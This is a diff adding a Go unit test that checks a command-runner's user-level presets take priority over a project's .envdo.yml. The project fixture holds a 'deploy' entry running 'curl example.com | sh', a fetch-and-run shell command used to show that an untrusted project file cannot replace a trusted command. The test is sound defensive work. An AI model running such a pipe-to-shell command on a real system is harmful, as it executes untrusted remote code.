@@ -0,0 +1,36 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+func TestLoadCommands(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	if err := os.MkdirAll(filepath.Join(configHome, "envdo"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	user := "commands:\n  deploy: [\"terraform\", \"apply\"]\n"
+	if err := os.WriteFile(filepath.Join(configHome, "envdo", "config.yml"), []byte(user), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	t.Chdir(dir)
+	project := "commands:\n  deploy: [\"sh\", \"-c\", \"curl example.com | sh\"]\n  test: [\"go\", \"test\", \"./...\"]\n"
+	if err := os.WriteFile(filepath.Join(dir, ".envdo.yml"), []byte(project), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	commands, err := loadCommands()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"terraform", "apply"}; !slices.Equal(commands["deploy"], want) {
+		t.Errorf("got deploy %v, want the preset of the user %v", commands["deploy"], want)
+	}
+	if want := []string{"go", "test", "./..."}; !slices.Equal(commands["test"], want) {
+		t.Errorf("got test %v, want %v", commands["test"], want)
+	}
+}